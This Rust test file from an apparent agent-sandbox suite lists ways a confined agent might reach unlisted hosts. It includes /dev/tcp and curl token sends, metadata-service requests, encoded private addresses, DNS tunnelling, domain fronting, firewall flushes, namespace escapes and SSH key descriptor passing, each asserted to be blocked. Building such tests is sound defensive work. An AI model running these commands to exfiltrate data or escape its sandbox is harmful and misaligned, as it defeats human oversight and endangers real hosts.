//! Reaching a host that no rule names: by every protocol, socket call and spelling of an address.

use agentwall_tests::{
    Case,
    Check::{Heard, NoEcho, NoEffect, NoTraffic, Unheard},
    Native, Outcome, World,
    case::says,
};

/// Everything may be connected to, but the base policy's `cidr:private` rule comes first.
const PUBLIC: &str = "  - { id: everything-public, priority: 100, action: [net.connect, net.send, dns.resolve], effect: allow }\n";
/// One host name.
const NAMED: &str = "  - { id: named, priority: 25, action: net.connect, resource: [\"tcp://allowed.agentwall.test:*\", \"tcp://{token}.ok.agentwall.test:*\"], effect: allow }
  - { id: named-dns, priority: 25, action: dns.resolve, resource: [\"dns:allowed.agentwall.test\", \"dns:{token}.ok.agentwall.test\"], effect: allow }\n";

const NEIGHBOUR: &str = "{kit}/net tcp 127.0.0.1 {open} {token}";
const PROTOCOLS: &str = "peers: UDP, QUIC, ICMP, fast open, IPv6";

/// (name, attack, native): the neighbour is a connection to the one permitted server.
const ROUTES: &[(&str, &str, Native)] = &[
    ("tcp", "{kit}/net tcp 1.2.3.5 {port} {token}", Native::Works),
    (
        "tcp-static",
        "{kit}/net-static tcp 1.2.3.5 {port} {token}",
        Native::Works,
    ),
    (
        "tcp-nonblocking",
        "{kit}/net tcp-nonblock 1.2.3.5 {port} {token}",
        Native::Works,
    ),
    (
        "tcp-v6",
        "{kit}/net tcp 2606:4700::1111 {port} {token}",
        Native::Works,
    ),
    (
        "tcp-v4-mapped",
        "{kit}/net tcp ::ffff:1.2.3.5 {port} {token}",
        Native::Works,
    ),
    (
        "tcp-fast-open",
        "{kit}/net fastopen 1.2.3.5 {port} {token}",
        Native::Works,
    ),
    (
        "tcp-uring",
        "{kit}/net tcp-uring 1.2.3.5 {port} {token}",
        Native::Works,
    ),
    (
        "tcp-marked",
        "{kit}/net tcp-marked 1.2.3.5 {port} {token}",
        Native::Works,
    ),
    (
        "tcp-bound-to-device",
        "{kit}/net tcp-device 1.2.3.5 {port} {token}",
        Native::Works,
    ),
    (
        "mptcp",
        "{kit}/net mptcp 1.2.3.5 {port} {token}",
        Native::Works,
    ),
    ("udp", "{kit}/net udp 1.2.3.5 {port} {token}", Native::Works),
    (
        "udp-connected",
        "{kit}/net udp-connected 1.2.3.5 {port} {token}",
        Native::Works,
    ),
    (
        "udp-sendmsg",
        "{kit}/net udp-sendmsg 1.2.3.5 {port} {token}",
        Native::Works,
    ),
    (
        "udp-sendmmsg",
        "{kit}/net udp-sendmmsg 1.2.3.5 {port} {token}",
        Native::Works,
    ),
    (
        "udp-v6",
        "{kit}/net udp 2606:4700::1111 {port} {token}",
        Native::Works,
    ),
    (
        "udp-v4-mapped",
        "{kit}/net udp ::ffff:1.2.3.5 {port} {token}",
        Native::Works,
    ),
    (
        "udp-443",
        "{kit}/net udp 1.2.3.5 443 {token}",
        Native::Works,
    ),
    (
        "udp-loopback",
        "{kit}/net udp 127.0.0.1 {port} {token}",
        Native::Works,
    ),
    (
        "udplite",
        "{kit}/net udplite 1.2.3.5 {port} {token}",
        Native::Cannot("no UDP-Lite server"),
    ),
    (
        "raw-udp",
        "{kit}/net raw-udp 1.2.3.5 {port} {token}",
        Native::RootOnly("raw sockets need CAP_NET_RAW"),
    ),
    (
        "shell",
        "bash -c 'echo {token} > /dev/tcp/1.2.3.5/{port}'; bash -c 'echo {token} > /dev/udp/1.2.3.5/{port}'",
        Native::Works,
    ),
    (
        "curl",
        "curl -s --max-time 3 http://1.2.3.5:{port}/{token}",
        Native::Works,
    ),
    (
        "curl-noproxy",
        "curl -s --max-time 3 --noproxy '*' http://1.2.3.5:{port}/{token}; env -i curl -s --max-time 3 http://1.2.3.5:{port}/{token}",
        Native::Works,
    ),
    (
        "python",
        "python3 -c 'import socket; socket.create_connection((\"1.2.3.5\", {port}), 3).send(b\"{token}\")'",
        Native::Works,
    ),
    (
        "host-loopback-port",
        "{kit}/net tcp 127.0.0.1 {port} {token}; {kit}/net tcp ::1 {port} {token}; {kit}/net tcp localhost {port} {token}",
        Native::Works,
    ),
    (
        "metadata-service",
        "curl -s --max-time 3 http://169.254.169.254/latest/{token}; curl -s --max-time 3 http://169.254.170.2/{token}; curl -s --max-time 3 'http://[fd00:ec2::254]/{token}'",
        Native::Works,
    ),
    (
        "internal-host",
        "curl -s --max-time 3 http://10.0.0.1/{token}; curl -s --max-time 3 http://192.168.0.1:8080/{token}",
        Native::Works,
    ),
    (
        "other-address-of-allowed-port",
        "{kit}/net tcp 10.0.0.1 {open} {token}-wrong; {kit}/net tcp 1.2.3.5 {open} {token}-wrong; {kit}/net tcp 127.0.0.2 {open} {token}-wrong",
        Native::Works,
    ),
    (
        "redirect-port",
        "for p in 1 53 80 443 1080 3128 8080 8888 9050 15001; do {kit}/net tcp 127.0.0.1 $p {token}; done",
        Native::Works,
    ),
];

/// Spellings of internal addresses, by group. Every one lands on a canary when nothing stops it.
const SPELLINGS: &[(&str, &[&str])] = &[
    (
        "decimal-octal-hex",
        &[
            "167772161",
            "012.0.0.1",
            "0x0a000001",
            "0xa.0.0.1",
            "10.1",
            "10.0.1",
            "0x0a.0x0.0x0.0x1",
            "0012.0000.0000.0001",
            "10.0.0.01",
            "012.1",
        ],
    ),
    (
        "loopback",
        &[
            "127.0.0.1",
            "127.1",
            "0",
            "0.0.0.0",
            "2130706433",
            "0x7f000001",
            "0177.0.0.1",
            "127.255.255.254",
            "127.0.0.53",
            "localhost",
        ],
    ),
    (
        "link-local",
        &[
            "169.254.169.254",
            "2852039166",
            "0xa9fea9fe",
            "0251.0376.0251.0376",
            "169.254.43518",
            "169.16689662",
            "169.254.170.2",
        ],
    ),
    (
        "private",
        &[
            "10.0.0.1",
            "172.16.0.1",
            "192.168.0.1",
            "192.168.1",
            "100.64.0.1",
            "100.100.100.200",
            "198.18.0.1",
            "192.0.0.192",
            "240.0.0.1",
        ],
    ),
    (
        "v6-local",
        &[
            "::1",
            "::",
            "fd00::1",
            "fd00:ec2::254",
            "fec0::1",
            "fe80::1234%lo",
            "0:0:0:0:0:0:0:1",
            "fd00:0:0:0::0.0.0.1",
        ],
    ),
    (
        "v6-with-v4-inside",
        &[
            "::ffff:10.0.0.1",
            "::ffff:a00:1",
            "::ffff:127.0.0.1",
            "::ffff:169.254.169.254",
            "::ffff:7f00:1",
            "::10.0.0.1",
            "64:ff9b::a00:1",
            "64:ff9b::10.0.0.1",
            "64:ff9b:1::a00:1",
            "2002:a00:1::1",
            "2001:0:0:1::f5ff:fffe",
        ],
    ),
];

/// All cases of this theme.
pub fn cases() -> Vec<Case> {
    let mut all = Vec::new();
    for (name, attack, native) in ROUTES {
        let check = if *name == "other-address-of-allowed-port" {
            Unheard("{token}-wrong".into())
        } else {
            NoTraffic
        };
        all.push(
            Case::new(format!("network/unlisted/{name}"), PROTOCOLS)
                .attack(*attack, [check])
                .neighbour(NEIGHBOUR, [says("HELLO"), Heard("{token}".into())])
                .native(*native)
                .with(|c| c.net = true),
        );
    }
    for (group, names) in SPELLINGS {
        for route in ["tcp", "udp"] {
            let attack: Vec<String> = names
                .iter()
                .map(|n| format!("{{kit}}/net {route} '{n}' {{port}} '{{token}} as {n}' &"))
                .collect();
            all.push(
                Case::new(
                    format!("network/spelling/{group}-{route}"),
                    "srt protected-assets: spellings of private addresses",
                )
                .rules(PUBLIC)
                .attack(format!("{}\nwait", attack.join("\n")), [NoTraffic])
                .neighbour("{kit}/net tcp 1.2.3.4 {open} {token}", [says("HELLO")])
                .with(|c| c.net = true),
            );
        }
        let attack: Vec<String> = names
            .iter()
            .filter(|n| !n.contains('%'))
            .map(|n| {
                if n.contains(':') {
                    format!("http://[{n}]:{{port}}/{{token}}")
                } else {
                    format!("http://{n}:{{port}}/{{token}}")
                }
            })
            .map(|u| format!("curl -gs --max-time 3 '{u}' &"))
            .collect();
        all.push(
            Case::new(
                format!("network/spelling/{group}-curl"),
                "srt protected-assets: spellings of private addresses",
            )
            .rules(PUBLIC)
            .attack(format!("{}\nwait", attack.join("\n")), [NoTraffic])
            .neighbour(
                "curl -s --max-time 5 http://1.2.3.4:{open}/",
                [says("HELLO")],
            )
            .with(|c| c.net = true),
        );
    }
    all.extend(names());
    all.extend(below_the_transport());
    all.extend(unix());
    all
}

fn names() -> Vec<Case> {
    let allowed = "curl -s --max-time 5 http://allowed.agentwall.test:{open}/";
    let case = |name: &str, source, attack: &str, check| {
        Case::new(format!("network/names/{name}"), source)
            .rules(NAMED)
            .attack(attack, [check])
            .neighbour(allowed, [says("HELLO")])
            .with(|c| c.net = true)
    };
    let heard = || Unheard("{token}".into());
    vec![
        case("unlisted-name", "default deny by name", "curl -s --max-time 3 http://other.agentwall.test/{token}; getent hosts {token}.agentwall.test", heard()),
        case("subdomain", "names are whole names", "curl -s --max-time 3 http://{token}.allowed.agentwall.test/; curl -s --max-time 3 http://{token}allowed.agentwall.test/", heard()),
        case("suffix", "names are whole names", "getent hosts allowed.agentwall.test.{token}.agentwall.test; getent ahosts {token}.agentwall.test.", heard()),
        case("tunnel", "DNS tunnel: data as labels of an unlisted name", "for i in 1 2 3; do getent ahosts secret-$i.{token}.evil.agentwall.test; done", heard()),
        case("tunnel-below-allowed", "DNS tunnel below a permitted name", "for i in 1 2 3; do getent ahosts data-$i-{token}.allowed.agentwall.test; done", heard()),
        case("other-resolver", "DNS straight to another server", "python3 -c '
import socket
q=b\"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\"+bytes([len(\"{token}\")])+b\"{token}\\x09agentwall\\x04test\\0\\0\\1\\0\\1\"
for a in (\"1.2.3.5\",\"127.0.0.77\",\"127.0.0.53\",\"10.0.0.1\"):
  try:
    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(1); s.sendto(q,(a,53)); print(s.recv(512))
  except OSError as e: print(e)
'", heard()),
        case("odd-queries", "other record types carry data too", "python3 -c '
import socket
for t in (1,2,5,6,12,15,16,28,33,43,64,65,252,255):
  q=b\"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\"+bytes([len(\"{token}\")])+b\"{token}\\x09agentwall\\x04test\\0\\0\"+bytes([t])+b\"\\0\\1\"
  try:
    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(0.4); s.sendto(q,(\"127.0.0.77\",53)); print(s.recv(512))
  except OSError as e: print(e)
'", heard()),
        case("rebinding", "a permitted name that points inside", "curl -s --max-time 3 http://rebind.agentwall.test:{port}/{token}", NoTraffic)
            .rules("  - { id: any-name, priority: 100, action: [net.connect, dns.resolve], effect: allow }\n"),
        case("address-of-allowed-name-unresolved", "an address counts by the name that was resolved", "{kit}/net tcp 1.2.3.5 {port} {token}", NoTraffic),
        case("resolve-override", "curl --resolve points a permitted name elsewhere", "curl -s --max-time 3 --resolve allowed.agentwall.test:{port}:1.2.3.5 http://allowed.agentwall.test:{port}/{token}; curl -s --max-time 3 --resolve allowed.agentwall.test:{port}:10.0.0.1 http://allowed.agentwall.test:{port}/{token}", NoTraffic),
        case("host-contradiction", "domain fronting: Host is not the name that was resolved", "getent hosts allowed.agentwall.test >/dev/null; curl -s --max-time 3 -H 'Host: {token}.evil.agentwall.test' http://allowed.agentwall.test/", heard()),
        case("host-contradiction-second-request", "a second request on the same connection", "python3 -c '
import socket
s=socket.create_connection((\"allowed.agentwall.test\",80),3)
s.send(b\"GET / HTTP/1.1\\r\\nHost: allowed.agentwall.test\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: {token}.evil.agentwall.test\\r\\n\\r\\n\")
print(s.recv(100))'", heard())
            .with(|c| c.open = Some("only the first request of a clear-text connection is compared with the resolved name until the HTTP rules inspect every request")),
        case("absolute-form", "an absolute request line names another host", "curl -s --max-time 3 --request-target 'http://{token}.evil.agentwall.test/' http://allowed.agentwall.test/", heard()),
        Case::new("network/names/sni-contradiction", "domain fronting: SNI is not the name that was resolved")
            .rules(NAMED)
            .attack("curl -sk --max-time 3 --connect-to ::allowed.agentwall.test:443 https://{token}.evil.agentwall.test/", [Unheard("{token}.evil".into())])
            .neighbour("curl -sk --max-time 3 https://{token}.ok.agentwall.test/; true", [Heard("{token}.ok.agentwall.test".into())])
            .with(|c| c.net = true),
        Case::new("network/names/connect-race", "sockaddr swapped between check and connect (sandlock #27)")
            .rules(NAMED)
            .attack("{kit}/net race 127.0.0.1 {open} {token} 1.2.3.5 {port} 3", [NoTraffic])
            .neighbour("{kit}/net tcp 127.0.0.1 {open} {token}", [says("HELLO")])
            .with(|c| c.net = true),
    ]
}

fn below_the_transport() -> Vec<Case> {
    let case = |name: &str, source, attack: &str, checks: Vec<agentwall_tests::Check>, native| {
        Case::new(format!("network/below/{name}"), source)
            .attack(attack, checks)
            .neighbour(NEIGHBOUR, [says("HELLO")])
            .native(native)
            .with(|c| c.net = true)
    };
    let raw = Native::RootOnly("needs CAP_NET_RAW");
    let admin = Native::RootOnly("needs CAP_NET_ADMIN");
    vec![
        case("icmp", "ICMP tunnels", "{kit}/net icmp 1.2.3.5 0 {token}", vec![NoEcho], Native::Works),
        case("icmp-v6", "ICMP tunnels", "{kit}/net icmp 2606:4700::1111 0 {token}", vec![NoEcho], Native::Works),
        case("icmp-raw", "ICMP tunnels", "{kit}/net icmp-raw 1.2.3.5 0 {token}; ping -c1 -W1 10.0.0.1", vec![NoEcho], raw),
        case("packet-socket", "raw frames", "{kit}/net packet 1.2.3.5 0 {token}", vec![NoEffect], raw),
        case("sctp", "another transport", "{kit}/net sctp 1.2.3.5 {port} {token}", vec![NoEffect], Native::Cannot("this kernel has no SCTP")),
        case("vsock", "the hypervisor's socket family", "{kit}/net vsock 1.2.3.5 22 {token}", vec![NoEffect], Native::Cannot("no host behind vsock here")),
        case("netlink", "the agent's own network settings", "{kit}/net netlink-addr 1.2.3.5 0 {token}", vec![NoEffect], admin),
        case("netlink-flush", "the agent's own network settings", "ip route flush table local; ip rule flush; ip link set lo down; ip addr flush dev lo; {kit}/net tcp 1.2.3.5 {port} {token}", vec![NoTraffic], Native::Unsafe("it would take the suite's canary addresses away")),
        case("firewall", "the capture rules", "nft flush ruleset && echo EFFECT; iptables -t nat -F && echo EFFECT; ip route del local 0.0.0.0/0 dev lo && echo EFFECT; {kit}/net tcp 1.2.3.5 {port} {token}", vec![NoEffect, NoTraffic], Native::Works),
        case("new-namespace", "unshare, then reach out", "unshare -Urn sh -c 'ip link set lo up; {kit}/net tcp 1.2.3.5 {port} {token}'; unshare -Ur {kit}/net tcp 1.2.3.5 {port} {token}", vec![NoTraffic], Native::Works),
        case("join-namespace", "setns into another network namespace", "{kit}/net setns 1.2.3.5 0 {token}; nsenter -t 1 -n {kit}/net tcp 1.2.3.5 {port} {token}; nsenter --net=/proc/1/ns/net {kit}/net tcp 1.2.3.5 {port} {token}", vec![NoEffect, NoTraffic], admin),
        // What an agent starts for itself stays reachable.
        Case::new("network/own-server", "issue: a server on localhost stays reachable inside")
            .attack("{kit}/net tcp 127.0.0.1 {port} {token}", [NoTraffic])
            .neighbour("{kit}/net tcp-self 127.0.0.1 1 {token}; {kit}/net udp-self 127.0.0.1 1 {token}", [says("done tcp-self"), says("done udp-self")])
            .with(|c| c.net = true),
        // A server of the agent is not reachable from the host.
        Case::new("network/listen-outside", "a back door that waits for visitors")
            .attack("timeout 3 python3 -c 'import socket; s=socket.socket(); s.setsockopt(1,2,1); s.bind((\"0.0.0.0\", {port}+1 if {port}<65535 else 20000)); s.listen(); s.settimeout(2.5); s.accept(); print(\"EFFECT accepted\")'", [NoEffect])
            .neighbour("{kit}/net tcp-self 127.0.0.1 1 {token}", [says("done")])
            .with(|c| { c.net = true; c.beside = Some(knock); c.native = Native::Cannot("nobody knocks without the wall") }),
    ]
}

/// Tries to reach the agent's listener from the host.
fn knock(w: &World) -> Result<(), String> {
    let port = if w.port < 65535 { w.port + 1 } else { 20000 };
    for _ in 0..20 {
        std::thread::sleep(std::time::Duration::from_millis(100));
        let _ = std::net::TcpStream::connect(("127.0.0.1", port));
    }
    Ok(())
}

fn unix() -> Vec<Case> {
    let own = "python3 -c 'import socket; s=socket.socket(1); s.bind(\"{work}/own.sock\"); s.listen(); c=socket.socket(1); c.connect(\"{work}/own.sock\"); c.send(b\"x\"); print(\"own-ok\", s.accept()[0].recv(1))'";
    // Datagram sockets of the Unix family are refused whole (a peer named behind a pointer with each
    // message cannot be checked without a race), so the neighbour is always a stream.
    let sources =
        "peers: abstract and named sockets of host daemons; sandlock named_unix_dgram_sendmmsg";
    let case = |name: &str, attack: &str, neighbour: &str| {
        Case::new(format!("network/unix/{name}"), sources)
            .attack(attack, [NoTraffic])
            .neighbour(neighbour, [says("own-ok")])
    };
    vec![
        case("abstract", "{kit}/net unix-stream {abstract} 0 {token}", own),
        case("abstract-datagram", "{kit}/net unix-dgram-sendto {abstract}-dgram 0 {token}", own),
        case("stream", "{kit}/net unix-stream {pub}/stream.sock 0 {token}", own),
        case("stream-uring", "{kit}/net unix-uring {pub}/stream.sock 0 {token}", own),
        case("stream-symlink", "ln -s {pub}/stream.sock {work}/l; {kit}/net unix-stream {work}/l 0 {token}", own),
        case("stream-proc-root", "{kit}/net unix-stream /proc/self/root{pub}/stream.sock 0 {token}; cd {pub}; {kit}/net unix-stream ./stream.sock 0 {token}; {kit}/net unix-stream /proc/self/cwd/stream.sock 0 {token}", own),
        case("datagram-sendto", "{kit}/net unix-dgram-sendto {pub}/dgram.sock 0 {token}", own),
        case("datagram-sendmsg", "{kit}/net unix-dgram-sendmsg {pub}/dgram.sock 0 {token}", own),
        case("datagram-sendmmsg", "{kit}/net unix-dgram-sendmmsg {pub}/dgram.sock 0 {token}", own),
        case("in-workspace", "{kit}/net unix-stream {work}/host.sock 0 {token}", own)
            .with(|c| { c.setup = Some(workspace_socket); c.native = Native::Works }),
        Case::new("network/unix/descriptor-from-outside", "SCM_RIGHTS: a process outside hands a descriptor in")
            .attack("{kit}/net unix-scm {pub}/scm.sock 0 {token}", [agentwall_tests::Check::NoSecret])
            .neighbour(own, [says("own-ok")])
            .with(|c| { c.setup = Some(scm_server); c.after = Some(|_: &World, _: &Outcome| Ok(())) }),
        Case::new("network/unix/agent-sockets", "ssh-agent, D-Bus, Docker: named by the environment")
            .attack("SSH_AUTH_SOCK={pub}/stream.sock ssh-add -l; DOCKER_HOST=unix://{pub}/stream.sock; curl -s --max-time 3 --unix-socket {pub}/stream.sock http://x/{token}", [NoTraffic])
            .neighbour(own, [says("own-ok")]),
    ]
}

/// A server of the host that listens inside the workspace.
fn workspace_socket(w: &World) -> Result<(), String> {
    let listener = std::os::unix::net::UnixListener::bind(w.path("work/host.sock"))
        .map_err(|e| e.to_string())?;
    w.mode("work/host.sock", 0o777);
    serve_marked(w, listener);
    Ok(())
}

fn serve_marked(w: &World, listener: std::os::unix::net::UnixListener) {
    let log = w.shared.log.clone();
    std::thread::spawn(move || {
        use std::io::{Read, Write};
        while let Ok((mut s, _)) = listener.accept() {
            let mut buf = [0; 256];
            let n = s.read(&mut buf).unwrap_or(0);
            log.note("unix", &buf[..n]);
            let _ = s.write_all(b"HELLO");
        }
    });
}

/// A process outside that hands an open descriptor of the secret to whoever connects.
fn scm_server(w: &World) -> Result<(), String> {
    let script = "import socket,os,sys
s=socket.socket(1); s.bind(sys.argv[1]); os.chmod(sys.argv[1],0o777); s.listen(); s.settimeout(30)
c,_=s.accept(); c.recv(10)
socket.send_fds(c,[b'x'],[os.open(sys.argv[2],os.O_RDONLY)])";
    let mut cmd = std::process::Command::new("/usr/bin/python3");
    cmd.args(["-c", script])
        .arg(w.path("pub/scm.sock"))
        .arg(w.path("home/.ssh/id_ed25519"));
    agentwall_tests::run::silent(&mut cmd)
        .spawn()
        .map_err(|e| e.to_string())?;
    // A slow machine needs seconds for it.
    for _ in 0..1500 {
        if w.path("pub/scm.sock").exists() {
            return Ok(());
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    Err("the server outside did not start".into())
}
